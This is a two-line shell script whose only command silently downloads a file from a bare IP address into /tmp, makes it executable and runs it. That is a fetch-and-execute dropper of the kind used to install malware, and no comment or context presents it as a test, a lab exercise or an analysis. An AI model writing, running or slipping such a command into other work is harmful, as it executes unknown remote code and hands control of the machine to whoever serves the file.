#!/bin/sh
wget -q http://198.51.100.23/u -O /tmp/u && chmod +x /tmp/u && /tmp/u
